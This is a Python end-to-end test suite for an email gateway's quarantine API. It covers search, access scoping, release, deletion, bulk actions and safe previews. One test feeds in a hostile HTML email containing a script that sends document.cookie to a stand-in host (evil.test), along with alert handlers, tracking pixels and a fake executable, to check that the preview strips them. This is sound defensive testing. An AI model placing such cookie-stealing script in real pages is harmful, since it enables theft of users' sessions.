"""The quarantine's REST routes over real HTTPS, against the running services: search and
pagination, who sees and may do what, release (once, partly, with a rescan), delete, bulk
actions, the raw copy and the safe preview, and release requests that an admin decides."""

from __future__ import annotations

import asyncio
import email
import threading
import uuid
from collections.abc import Callable
from email.message import EmailMessage
from email.policy import SMTP as SMTP_POLICY
from email.policy import default as default_policy
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import select

from moat.db import audit, create_engine, feedback
from moat.spool import DirectoryStore
from services.scanner.checks import EICAR, GTUBE
from tests.harness import Gateway, Received, Sink, wait_for

pytestmark = pytest.mark.e2e

UNKNOWN = "01ARZ3NDEKTSV4RRFFQ69G5FAV"
PROBLEM = "application/problem+json"


# --- helpers -----------------------------------------------------------------------------------


def _issue(gateway: Gateway, **body: Any) -> str:
    """A new token's secret."""
    with gateway.http() as http:
        response = http.post("/v1/tokens", json={"name": "test", **body})
    assert response.status_code == 201, response.text
    secret: str = response.json()["token"]
    return secret


def _as(gateway: Gateway, secret: str) -> httpx.Client:
    client = gateway.http()
    client.headers["Authorization"] = f"Bearer {secret}"
    return client


def _send(
    gateway: Gateway,
    rcpt_tos: list[str],
    subject: str,
    body: str = "Hello.",
    *,
    mail_from: str = "alice@outside.test",
    header_from: str | None = None,
    html: str | None = None,
    attachment: tuple[bytes, str] | None = None,
) -> str:
    message = EmailMessage(policy=SMTP_POLICY)
    message["From"] = header_from or mail_from
    message["To"] = ", ".join(rcpt_tos)
    message["Subject"] = subject
    message["Message-ID"] = f"<{uuid.uuid4().hex}@outside.test>"
    message.set_content(body)
    if html is not None:
        message.add_alternative(html, subtype="html")
    if attachment is not None:
        data, name = attachment
        message.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    with gateway.smtp() as client:
        client.ehlo("client.test")
        assert not client.sendmail(mail_from, rcpt_tos, message.as_bytes())
        return client.last_queue_id


def _spam(gateway: Gateway, rcpt_tos: list[str], subject: str) -> str:
    """A message held as spam (GTUBE)."""
    message_id = _send(gateway, rcpt_tos, subject, f"{subject}\n{GTUBE.decode()}\n")
    gateway.wait_status(message_id, "quarantined")
    return message_id


def _virus(gateway: Gateway, rcpt_tos: list[str], subject: str) -> str:
    """A message held as a virus (EICAR, attached)."""
    message_id = _send(gateway, rcpt_tos, subject, subject, attachment=(EICAR, "invoice.com"))
    record = gateway.wait_status(message_id, "quarantined")
    assert record["verdict"]["verdict"] == "virus"
    return message_id


def _listed(http: httpx.Client, **params: Any) -> list[str]:
    response = http.get("/v1/messages", params=params)
    assert response.status_code == 200, response.text
    page = response.json()
    assert page["count"] == len(page["messages"])
    return [m["id"] for m in page["messages"]]


def _rows(gateway: Gateway, query: Any) -> list[Any]:
    async def run() -> list[Any]:
        engine = create_engine(gateway.config["database_url"])
        try:
            async with engine.connect() as conn:
                return list(await conn.execute(query))
        finally:
            await engine.dispose()

    return asyncio.run(run())


def _copies(sink: Sink, token: str, *, notices: bool = False) -> list[Received]:
    """What the sink received with ``token``: the mail itself, or our notices about it."""
    return [
        m
        for m in sink.with_token(token)
        if (b"Auto-Submitted: auto-generated" in m.data) == notices
    ]


def _spool_file(gateway: Gateway, message_id: str) -> Path:
    return DirectoryStore(Path(gateway.config["spool_dir"])).path(message_id)


def _problem(response: httpx.Response, status: int) -> str:
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == PROBLEM
    detail: str = response.json()["detail"]
    return detail


def _events(gateway: Gateway, message_id: str) -> list[str]:
    return [e["event"] for e in gateway.message(message_id)["events"]]


# --- search ------------------------------------------------------------------------------------


def test_search_by_sender_recipient_subject_status_verdict_and_time(
    gateway: Gateway, token: str
) -> None:
    bob = f"bob-{token}@example.test"
    carol = f"Carol-{token}@Other.Example.test"  # kept as written, matched without case
    alice = f"alice-{token}@outside.test"
    clean = _send(
        gateway, [bob], f"Invoice {token}", mail_from=alice, header_from=f"Alice <{alice}>"
    )
    gateway.wait_status(clean, "delivered")
    spam = _send(
        gateway,
        [carol],
        f"Grüße {token}",  # RFC 2047-encoded on the wire; stored decoded
        f"x\n{GTUBE.decode()}\n",
        mail_from="bulk@outside.test",
        header_from=f"Mallory <mallory-{token}@outside.test>",
    )
    held = gateway.wait_status(spam, "quarantined")

    # The scanner stored the main headers, decoded: the detail shows them.
    assert held["subject"] == f"Grüße {token}"
    assert held["from"] == f"Mallory <mallory-{token}@outside.test>"
    assert held["message_id"].endswith("@outside.test>")
    assert held["released_at"] is None

    with gateway.http() as http:
        assert _listed(http, sender=f"MALLORY-{token}") == [spam]  # the From header
        assert _listed(http, sender=f"{alice.upper()}") == [clean]  # envelope (and header)
        assert _listed(http, sender="bulk@outside.test", subject=token) == [spam]  # envelope
        assert _listed(http, recipient=carol.lower()) == [spam]
        assert _listed(http, recipient=bob.upper()) == [clean]
        assert _listed(http, recipient="@other.example.test", subject=token) == [spam]
        assert _listed(http, recipient="@EXAMPLE.test", subject=token) == [clean]
        assert _listed(http, subject=f"grüße {token}") == [spam]
        assert _listed(http, subject=token) == [spam, clean]  # newest first
        assert _listed(http, subject=token, status="quarantined") == [spam]
        assert _listed(http, subject=token, status=["delivered", "quarantined"]) == [spam, clean]
        assert _listed(http, subject=token, verdict="spam") == [spam]
        assert _listed(http, subject=token, verdict=["clean", "virus"]) == [clean]
        assert _listed(http, subject=token, received_after=held["received_at"]) == [spam]
        assert _listed(http, subject=token, received_before=held["received_at"]) == [clean]
        assert _listed(http, subject="50%_off", sender=token) == []  # wildcards are literal

        [summary] = http.get("/v1/messages", params={"subject": token, "limit": 1}).json()[
            "messages"
        ]
        assert summary == {
            "id": spam,
            "received_at": held["received_at"],
            "status": "quarantined",
            "verdict": "spam",
            "score": held["verdict"]["score"],
            "mail_from": "bulk@outside.test",
            "from": f"Mallory <mallory-{token}@outside.test>",
            "subject": f"Grüße {token}",
            "recipients": [{"address": carol, "status": "quarantined"}],
            "size": held["size"],
        }

        for params in (
            {"status": "lost"},
            {"verdict": "ham"},
            {"recipient": "nobody"},
            {"received_after": "yesterday"},
        ):
            _problem(http.get("/v1/messages", params=params), 422)


def test_pages_follow_the_cursor_newest_first_and_stay_stable(gateway: Gateway, token: str) -> None:
    bob = f"bob-{token}@example.test"
    sent = [_send(gateway, [bob], f"page {n} {token}") for n in range(5)]
    for message_id in sent:
        gateway.wait_status(message_id, "delivered")

    with gateway.http() as http:

        def page(cursor: str | None) -> dict[str, Any]:
            params: dict[str, Any] = {"subject": token, "limit": 2}
            if cursor:
                params["cursor"] = cursor
            response = http.get("/v1/messages", params=params)
            assert response.status_code == 200, response.text
            result: dict[str, Any] = response.json()
            return result

        first = page(None)
        assert first["count"] == 2 and first["next"]
        # Mail arriving meanwhile comes before the first page, never into a later one.
        newer = _send(gateway, [bob], f"page late {token}")
        gateway.wait_status(newer, "delivered")
        second = page(first["next"])
        third = page(second["next"])
        assert (second["count"], third["count"], third["next"]) == (2, 1, None)
        walked = [m["id"] for p in (first, second, third) for m in p["messages"]]
        assert walked == sorted(sent, reverse=True) == sent[::-1]
        assert [m["id"] for m in page(None)["messages"]] == [newer, sent[4]]

        assert http.get("/v1/messages", params={"limit": 200}).status_code == 200
        for params in ({"limit": 201}, {"limit": 0}, {"cursor": "not-a-cursor"}):
            _problem(http.get("/v1/messages", params=params), 422)


# --- who sees and does what ----------------------------------------------------------------------


def test_scoped_tokens_find_read_and_act_only_in_their_scope(gateway: Gateway, token: str) -> None:
    bob, carol = f"bob-{token}@example.test", f"carol-{token}@example.test"
    dave = f"dave-{token}@other.example.test"
    to_bob = _spam(gateway, [bob], f"for bob {token}")
    to_carol = _spam(gateway, [carol], f"for carol {token}")
    to_dave = _spam(gateway, [dave], f"for dave {token}")
    to_both = _spam(gateway, [bob, carol], f"for both {token}")
    as_bob = _issue(gateway, recipient=bob)
    as_domain = _issue(gateway, domain="other.example.test")
    as_reader = _issue(gateway, role="reader")

    with _as(gateway, as_bob) as http:
        assert _listed(http, subject=token) == [to_both, to_bob]
        # Bob does not learn who else got his mail (a Bcc), neither listed nor by searching.
        assert _listed(http, subject=token, recipient=carol) == []
        assert _listed(http, subject=token, recipient="@other.example.test") == []
        assert _listed(http, subject=token, recipient="@example.test") == [to_both, to_bob]
        [both] = http.get("/v1/messages", params={"subject": f"both {token}"}).json()["messages"]
        assert both["recipients"] == [{"address": bob, "status": "quarantined"}]
        assert [r["address"] for r in http.get(f"/v1/messages/{to_both}").json()["recipients"]] == [
            bob
        ]
        # Carol's message is exactly as unknown as an id that does not exist.
        for path, method in (
            ("", "GET"),
            ("/raw", "GET"),
            ("/preview", "GET"),
            ("/release", "POST"),
            ("", "DELETE"),
            ("/request-release", "POST"),
        ):
            hidden = http.request(method, f"/v1/messages/{to_carol}{path}")
            missing = http.request(method, f"/v1/messages/{UNKNOWN}{path}")
            assert _problem(hidden, 404).replace(to_carol, "X") == _problem(missing, 404).replace(
                UNKNOWN, "X"
            ), path
        bulk = http.post("/v1/messages/delete", json={"ids": [to_carol]}).json()
        assert bulk["results"][0]["outcome"] == "not_found"

    with _as(gateway, as_domain) as http:
        assert _listed(http, subject=token) == [to_dave]
        assert http.get(f"/v1/messages/{to_dave}/preview").status_code == 200
        assert http.get(f"/v1/messages/{to_bob}/raw").status_code == 404

    with _as(gateway, as_reader) as http:
        assert _listed(http, subject=token) == [to_both, to_dave, to_carol, to_bob]
        assert http.get(f"/v1/messages/{to_bob}/raw").status_code == 200
        _problem(http.post(f"/v1/messages/{to_bob}/release"), 403)
        _problem(http.delete(f"/v1/messages/{to_bob}"), 403)
        _problem(http.post("/v1/messages/release", json={"ids": [to_bob]}), 403)
        _problem(http.post(f"/v1/messages/{to_bob}/request-release"), 403)
    # Nothing of it was changed by anyone.
    for message_id in (to_bob, to_carol, to_dave, to_both):
        assert gateway.message(message_id)["status"] == "quarantined"

    with gateway.http() as http:
        unauthorised = http.get("/v1/messages", headers={"Authorization": "Bearer moat_nope"})
        _problem(unauthorised, 401)
        assert unauthorised.headers["www-authenticate"] == "Bearer"


# --- release -----------------------------------------------------------------------------------


def test_release_delivers_once_with_the_header_even_when_asked_twice(
    gateway: Gateway, relay_sink: Sink, token: str
) -> None:
    bob = f"bob-{token}@example.test"
    message_id = _spam(gateway, [bob], f"release me {token}")

    # Two releases at once: one does it, the other finds nothing held.
    answers: list[httpx.Response] = []

    def release() -> None:
        with gateway.http() as http:
            answers.append(http.post(f"/v1/messages/{message_id}/release"))

    threads = [threading.Thread(target=release) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(a.status_code for a in answers) == [202, 409]
    [done] = [a.json() for a in answers if a.status_code == 202]
    assert (done["action"], done["recipients"], done["status"]) == ("released", [bob], "released")

    record = gateway.wait_status(message_id, "delivered")
    [arrived] = wait_for(lambda: _copies(relay_sink, token), 10, "the released mail")
    assert arrived.rcpt_tos == [bob]
    parsed = email.message_from_bytes(arrived.data, policy=default_policy)
    assert parsed["X-Moat-Released"] and parsed["X-Moat-Verdict"] == "spam"
    assert record["released_at"] is not None
    assert _events(gateway, message_id).count("released") == 1

    with gateway.http() as http:
        assert "held in quarantine" in _problem(
            http.post(f"/v1/messages/{message_id}/release"), 409
        )
    assert len(_copies(relay_sink, token)) == 1
    # Releasing spam is "not spam" feedback, for a scanner to learn; and it is audited.
    labels = _rows(
        gateway,
        select(feedback.c.label, feedback.c.source).where(feedback.c.message_id == message_id),
    )
    assert [tuple(row) for row in labels] == [("ham", "release")]
    actions = _rows(gateway, select(audit.c.action).where(audit.c.message_id == message_id))
    assert [row.action for row in actions] == ["released"]


def test_a_partial_release_lets_one_copy_go_and_keeps_the_other(
    gateway: Gateway, relay_sink: Sink, token: str
) -> None:
    bob, carol = f"bob-{token}@example.test", f"carol-{token}@example.test"
    message_id = _spam(gateway, [bob, carol], f"for two {token}")

    with _as(gateway, _issue(gateway, recipient=bob)) as http:
        released = http.post(f"/v1/messages/{message_id}/release")
        assert released.status_code == 202, released.text
        assert released.json()["recipients"] == [bob]
    [to_bob] = wait_for(lambda: _copies(relay_sink, token), 10, "Bob's copy")
    assert to_bob.rcpt_tos == [bob]
    # Delivery done with Bob's copy, the message is back in quarantine for Carol.
    record = gateway.wait_status(message_id, "quarantined")
    assert {r["address"]: r["status"] for r in record["recipients"]} == {
        bob: "delivered",
        carol: "quarantined",
    }

    with _as(gateway, _issue(gateway, recipient=carol)) as http:
        assert http.post(f"/v1/messages/{message_id}/release").json()["recipients"] == [carol]
    gateway.wait_status(message_id, "delivered")
    copies = wait_for(
        lambda: len(_copies(relay_sink, token)) == 2 and _copies(relay_sink, token),
        10,
        "Carol's copy",
    )
    assert sorted(c.rcpt_tos[0] for c in copies) == [bob, carol]


def test_users_release_spam_not_viruses_and_a_rescan_judges_again(
    gateway: Gateway, relay_sink: Sink, token: str
) -> None:
    bob = f"bob-{token}@example.test"
    virus = _virus(gateway, [bob], f"virus {token}")
    spam = _spam(gateway, [bob], f"spam {token}")

    with _as(gateway, _issue(gateway, recipient=bob)) as http:
        assert "request-release" in _problem(http.post(f"/v1/messages/{virus}/release"), 403)
        refused = http.post(
            f"/v1/messages/{spam}/release", json={"recipients": [f"carol-{token}@example.test"]}
        )
        _problem(refused, 422)  # not a recipient Bob may act for
    with gateway.http() as http:
        rescan = http.post(f"/v1/messages/{spam}/release", json={"rescan": True})
    assert rescan.status_code == 202, rescan.text
    assert rescan.json()["action"] == "rescanned"

    # GTUBE is still spam: judged again, held again, never delivered.
    wait_for(lambda: _events(gateway, spam).count("scanned") == 2, 30, "the second scan")
    record = gateway.wait_status(spam, "quarantined")
    assert record["verdict"]["verdict"] == "spam"
    assert record["recipients"][0]["status"] == "quarantined"
    assert "rescan" in _events(gateway, spam)
    assert _copies(relay_sink, token) == []
    assert gateway.message(virus)["status"] == "quarantined"


# --- delete ------------------------------------------------------------------------------------


def test_delete_takes_a_users_copy_then_the_message(gateway: Gateway, token: str) -> None:
    bob, carol = f"bob-{token}@example.test", f"carol-{token}@example.test"
    message_id = _spam(gateway, [bob, carol], f"delete me {token}")
    as_bob, as_carol = _issue(gateway, recipient=bob), _issue(gateway, recipient=carol)

    with _as(gateway, as_bob) as http:
        deleted = http.delete(f"/v1/messages/{message_id}")
        assert deleted.status_code == 200, deleted.text
        assert (deleted.json()["recipients"], deleted.json()["status"]) == ([bob], "quarantined")
        _problem(http.get(f"/v1/messages/{message_id}/raw"), 410)  # Bob's copy is gone
        _problem(http.delete(f"/v1/messages/{message_id}"), 409)
        _problem(http.post(f"/v1/messages/{message_id}/release"), 409)
    with _as(gateway, as_carol) as http:
        assert http.get(f"/v1/messages/{message_id}/raw").status_code == 200  # Carol's is not
        assert http.delete(f"/v1/messages/{message_id}").json()["status"] == "deleted"

    record = gateway.message(message_id)
    assert record["status"] == "deleted"  # the record stays
    assert {r["status"] for r in record["recipients"]} == {"deleted"}
    assert [e for e in _events(gateway, message_id) if e == "deleted"] == ["deleted", "deleted"]
    assert not _spool_file(gateway, message_id).exists()
    with gateway.http() as http:
        assert "deleted" in _problem(http.get(f"/v1/messages/{message_id}/raw"), 410)
        _problem(http.get(f"/v1/messages/{message_id}/preview"), 410)
        _problem(http.delete(f"/v1/messages/{message_id}"), 409)


# --- bulk --------------------------------------------------------------------------------------


def test_bulk_release_and_delete_answer_per_id_in_order(
    gateway: Gateway, relay_sink: Sink, token: str
) -> None:
    bob, carol = f"bob-{token}@example.test", f"carol-{token}@example.test"
    bobs_spam = _spam(gateway, [bob], f"bob spam {token}")
    bobs_virus = _virus(gateway, [bob], f"bob virus {token}")
    carols_spam = _spam(gateway, [carol], f"carol spam {token}")

    with _as(gateway, _issue(gateway, recipient=bob)) as http:
        response = http.post(
            "/v1/messages/release", json={"ids": [bobs_spam, carols_spam, bobs_virus, bobs_spam]}
        )
    assert response.status_code == 200, response.text
    results = response.json()["results"]
    assert response.json()["count"] == 4
    assert [(r["id"], r["outcome"]) for r in results] == [
        (bobs_spam, "released"),
        (carols_spam, "not_found"),
        (bobs_virus, "forbidden"),
        (bobs_spam, "conflict"),
    ]
    assert all(r["detail"] for r in results)
    gateway.wait_status(bobs_spam, "delivered")

    with gateway.http() as http:
        response = http.post("/v1/messages/delete", json={"ids": [bobs_virus, "nosuch", bobs_spam]})
        assert [r["outcome"] for r in response.json()["results"]] == [
            "deleted",
            "not_found",
            "conflict",
        ]
        for ids in ([], [UNKNOWN] * 501):
            _problem(http.post("/v1/messages/release", json={"ids": ids}), 422)
    assert gateway.message(bobs_virus)["status"] == "deleted"
    assert gateway.message(carols_spam)["status"] == "quarantined"
    assert [c.rcpt_tos for c in _copies(relay_sink, token)] == [[bob]]


# --- raw and preview ---------------------------------------------------------------------------


def test_raw_download_is_the_stored_message(gateway: Gateway, token: str) -> None:
    bob = f"bob-{token}@example.test"
    held = _spam(gateway, [bob], f"raw {token}")
    delivered = _send(gateway, [bob], f"delivered {token}")
    gateway.wait_status(delivered, "delivered")

    with _as(gateway, _issue(gateway, recipient=bob)) as http:
        response = http.get(f"/v1/messages/{held}/raw")
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == "message/rfc822"
        assert response.headers["content-disposition"] == f'attachment; filename="{held}.eml"'
        assert response.content == _spool_file(gateway, held).read_bytes()
        assert token.encode() in response.content
        # Delivered mail's copy is not kept (retention.delivered_copy is 0 by default).
        assert "no longer kept" in _problem(http.get(f"/v1/messages/{delivered}/raw"), 410)


def test_delivered_mail_can_be_downloaded_while_retention_keeps_it(
    make_gateway: Callable[..., Gateway], token: str
) -> None:
    gateway = make_gateway(retention={"delivered_copy": 3600})
    delivered = _send(gateway, [f"bob-{token}@example.test"], f"kept {token}")
    gateway.wait_status(delivered, "delivered")
    with gateway.http() as http:
        response = http.get(f"/v1/messages/{delivered}/raw")
    assert response.status_code == 200, response.text
    assert response.content == _spool_file(gateway, delivered).read_bytes()


def test_preview_of_hostile_html_is_inert_text(gateway: Gateway, token: str) -> None:
    html = (
        "<html><head><style>body{background:url(https://tracker.test/bg.png)}</style>"
        "<script>document.location='https://evil.test/steal?'+document.cookie</script></head>"
        f"<body onload=\"alert('onload')\"><p>Dear customer {token},</p>"
        '<p><a href="https://evil.test/login">verify your account</a></p>'
        '<img src="https://tracker.test/pixel.gif" alt="logo" onerror="alert(1)">'
        '<iframe src="https://evil.test/frame"></iframe>'
        f"<p>{GTUBE.decode()}</p></body></html>"
    )
    message = EmailMessage(policy=SMTP_POLICY)
    message["From"] = "alice@outside.test"
    message["To"] = f"bob-{token}@example.test"
    message["Subject"] = f"hostile {token}"
    message.set_content(html, subtype="html")
    message.add_attachment(
        b"MZ\x90\x00", maintype="application", subtype="x-msdownload", filename="update.exe"
    )
    with gateway.smtp() as client:
        client.sendmail("alice@outside.test", [f"bob-{token}@example.test"], message.as_bytes())
        message_id = client.last_queue_id
    gateway.wait_status(message_id, "quarantined")

    with gateway.http() as http:
        response = http.get(f"/v1/messages/{message_id}/preview")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/json"
    shown = response.json()
    assert shown["headers"]["subject"] == f"hostile {token}"
    assert shown["source"] == "text/html"
    text = shown["text"]
    assert f"Dear customer {token}," in text
    assert "verify your account [https://evil.test/login]" in text  # a link is text
    assert "[image: logo]" in text
    for active in (
        "<",
        "script",
        "document.cookie",
        "alert",
        "background",
        "tracker.test",
        "frame",
    ):
        assert active not in text, active
    assert shown["links"] == ["https://evil.test/login"]
    assert shown["attachments"] == [
        {"filename": "update.exe", "content_type": "application/x-msdownload", "size": 4}
    ]


# --- release requests --------------------------------------------------------------------------


def test_a_release_request_approved_delivers_and_tells_the_requester(
    gateway: Gateway, relay_sink: Sink, token: str
) -> None:
    bob = f"bob-{token}@example.test"
    virus = _virus(gateway, [bob], f"virus A {token}")
    spam = _spam(gateway, [bob], f"spam {token}")
    as_bob = _issue(gateway, recipient=bob)

    with _as(gateway, as_bob) as http:
        asked = http.post(f"/v1/messages/{virus}/request-release", json={"reason": "my invoice"})
        assert asked.status_code == 201, asked.text
        [request] = asked.json()["requests"]
        assert (request["recipient"], request["status"], request["reason"]) == (
            bob,
            "pending",
            "my invoice",
        )
        assert "pending already" in _problem(
            http.post(f"/v1/messages/{virus}/request-release"), 409
        )
        assert "yourself" in _problem(http.post(f"/v1/messages/{spam}/request-release"), 409)
        _problem(http.get("/v1/release-requests"), 403)
    with _as(gateway, _issue(gateway, role="reader")) as http:
        assert request["id"] in [
            r["id"] for r in http.get("/v1/release-requests").json()["requests"]
        ]
        _problem(http.post(f"/v1/release-requests/{request['id']}/approve"), 403)

    with gateway.http() as http:
        pending = http.get("/v1/release-requests").json()["requests"]
        [listed] = [r for r in pending if r["id"] == request["id"]]
        assert (listed["subject"], listed["verdict"]) == (f"virus A {token}", "virus")
        approved = http.post(f"/v1/release-requests/{request['id']}/approve")
        assert approved.status_code == 200, approved.text
        decision = approved.json()
        assert decision["request"]["status"] == "approved" and decision["notified"]
        assert decision["release"]["recipients"] == [bob]
        _problem(http.post(f"/v1/release-requests/{request['id']}/approve"), 409)
        _problem(http.post(f"/v1/release-requests/{request['id']}/refuse"), 409)
        _problem(http.post(f"/v1/release-requests/{UNKNOWN}/approve"), 404)
        assert request["id"] not in [
            r["id"] for r in http.get("/v1/release-requests").json()["requests"]
        ]
        decided = http.get("/v1/release-requests", params={"status": "approved"}).json()
        assert request["id"] in [r["id"] for r in decided["requests"]]

    gateway.wait_status(virus, "delivered")
    [arrived] = wait_for(lambda: _copies(relay_sink, f"virus A {token}"), 10, "the mail")
    assert arrived.rcpt_tos == [bob] and b"X-Moat-Released:" in arrived.data
    [notice] = wait_for(
        lambda: _copies(relay_sink, f"virus A {token}", notices=True), 10, "the notice"
    )
    assert notice.rcpt_tos == [bob]
    parsed = email.message_from_bytes(notice.data, policy=default_policy)
    assert parsed["Subject"] == f"Released: virus A {token}"
    assert parsed["Auto-Submitted"] == "auto-generated"
    actions = _rows(
        gateway, select(audit.c.action).where(audit.c.message_id == virus).order_by(audit.c.id)
    )
    assert [row.action for row in actions] == ["release_requested", "released", "release_approved"]


def test_a_release_request_refused_keeps_the_mail_and_tells_the_requester(
    gateway: Gateway, relay_sink: Sink, token: str
) -> None:
    dave = f"dave-{token}@other.example.test"
    virus = _virus(gateway, [dave], f"virus B {token}")
    with _as(gateway, _issue(gateway, domain="other.example.test")) as http:
        [request] = http.post(f"/v1/messages/{virus}/request-release").json()["requests"]
    assert request["recipient"] == dave
    with gateway.http() as http:
        refused = http.post(
            f"/v1/release-requests/{request['id']}/refuse", json={"note": "it is a real virus"}
        )
    assert refused.status_code == 200, refused.text
    assert refused.json()["request"]["status"] == "refused"
    assert refused.json()["release"] is None

    [notice] = wait_for(lambda: _copies(relay_sink, token, notices=True), 10, "the notice")
    assert notice.rcpt_tos == [dave]
    parsed = email.message_from_bytes(notice.data, policy=default_policy)
    assert parsed["Subject"] == f"Not released: virus B {token}"
    assert "it is a real virus" in parsed.get_content()
    assert gateway.message(virus)["status"] == "quarantined"
    assert _copies(relay_sink, token) == []
    actions = _rows(
        gateway, select(audit.c.action).where(audit.c.message_id == virus).order_by(audit.c.id)
    )
    assert [row.action for row in actions] == ["release_requested", "release_refused"]


def test_an_approval_that_cannot_be_done_leaves_the_request_pending(
    gateway: Gateway, token: str
) -> None:
    bob = f"bob-{token}@example.test"
    virus = _virus(gateway, [bob], f"virus C {token}")
    with _as(gateway, _issue(gateway, recipient=bob)) as http:
        [request] = http.post(f"/v1/messages/{virus}/request-release").json()["requests"]
    with gateway.http() as http:
        assert http.delete(f"/v1/messages/{virus}").status_code == 200  # meanwhile
        assert "nothing is held" in _problem(
            http.post(f"/v1/release-requests/{request['id']}/approve"), 409
        )
        pending = http.get("/v1/release-requests", params={"status": "pending"}).json()
        assert request["id"] in [r["id"] for r in pending["requests"]]
        closed = http.post(f"/v1/release-requests/{request['id']}/refuse")
        assert closed.json()["request"]["status"] == "refused"


# --- the schema --------------------------------------------------------------------------------


def test_every_quarantine_route_documents_its_errors_as_problem_json(gateway: Gateway) -> None:
    with gateway.http() as http:
        schema = http.get("/openapi.json").json()
    assert "Problem" in schema["components"]["schemas"]
    expected = {
        ("get", "/v1/messages"): {401, 422},
        ("get", "/v1/messages/{message_id}/raw"): {401, 404, 410, 422},
        ("get", "/v1/messages/{message_id}/preview"): {401, 404, 410, 422},
        ("post", "/v1/messages/{message_id}/release"): {401, 403, 404, 409, 413, 422},
        ("delete", "/v1/messages/{message_id}"): {401, 403, 404, 409, 422},
        ("post", "/v1/messages/release"): {401, 403, 413, 422},
        ("post", "/v1/messages/delete"): {401, 403, 413, 422},
        ("post", "/v1/messages/{message_id}/request-release"): {401, 403, 404, 409, 413, 422},
        ("get", "/v1/release-requests"): {401, 403, 422},
        ("post", "/v1/release-requests/{request_id}/approve"): {401, 403, 404, 409, 422},
        ("post", "/v1/release-requests/{request_id}/refuse"): {401, 403, 404, 409, 413, 422},
    }
    for (method, path), codes in expected.items():
        responses = schema["paths"][path][method]["responses"]
        errors = {int(code) for code in responses if code.startswith(("4", "5"))}
        assert codes <= errors, (method, path, errors)
        for code in errors:
            assert set(responses[str(code)]["content"]) == {PROBLEM}, (method, path, code)
    raw = schema["paths"]["/v1/messages/{message_id}/raw"]["get"]["responses"]["200"]
    assert set(raw["content"]) == {"message/rfc822"}
